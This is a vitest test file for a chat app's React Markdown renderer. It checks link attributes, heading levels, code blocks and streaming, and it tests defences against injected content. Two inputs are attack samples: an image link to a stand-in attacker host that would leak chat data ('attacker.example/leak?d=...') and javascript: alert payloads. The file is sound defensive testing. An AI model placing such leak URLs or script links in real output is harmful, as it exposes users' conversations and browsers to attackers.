import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/markdown";

const render = (text: string, streaming = false) => renderToStaticMarkup(createElement(Markdown, { text, streaming }));

describe("a reply rendered as Markdown", () => {
  it("opens links in a new tab that learns nothing of the chat", () => {
    expect(render("See [the docs](https://example.com/docs).")).toContain(
      '<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">the docs</a>',
    );
  });
  it("shows an image as a link and loads nothing by itself", () => {
    const html = render("Look: ![a secret](https://attacker.example/leak?d=hello) and ![](https://x.example/p.png)");
    expect(html).not.toContain("<img");
    expect(html).toContain(
      '<a class="image-link" href="https://attacker.example/leak?d=hello" title="https://attacker.example/leak?d=hello" target="_blank" rel="noopener noreferrer nofollow"><span aria-hidden="true">🖼 </span>a secret</a>',
    );
    expect(html).toContain('href="https://x.example/p.png"');
    expect(html).toContain("</span>image</a>");
  });
  it("blanks a javascript: link and image", () => {
    const html = render("[x](javascript:alert(1)) ![y](javascript:alert(2))");
    expect(html).not.toContain("javascript:");
  });
  it("numbers a reply's headings under the chat's own h1, skipping no level", () => {
    const html = render("# Top\n\n### Deep\n\n###### Deepest\n\n# Again");
    expect([...html.matchAll(/<(h[1-6])>/g)].map((m) => m[1])).toEqual(["h2", "h3", "h4", "h2"]);
  });
  it("labels a code block with the language its author wrote", () => {
    const html = render("```python\nprint('hi')\n```");
    expect(html).toContain('<span class="language">python</span>');
    expect(html).toContain('aria-label="Copy code"');
  });
  it("shows a code block whose fence is still open as code while it streams", () => {
    const html = render("Here:\n```ts\nconst a = 1;\n``", true);
    expect(html).toMatch(/<pre[^>]*><code class="[^"]*language-ts[^"]*">/);
    expect(html).not.toContain("``");
  });
  it("renders a finished text kept from before the same as the first time, and another text as itself", () => {
    const first = render("A *kept* reply.\n\n- one\n- two");
    const other = render("A _kept_ answer.\n\n1. one");
    expect(render("A *kept* reply.\n\n- one\n- two")).toBe(first);
    expect(other).toContain("<ol>");
    expect(first).toContain("<em>kept</em>");
    expect(first).not.toBe(other);
  });
});
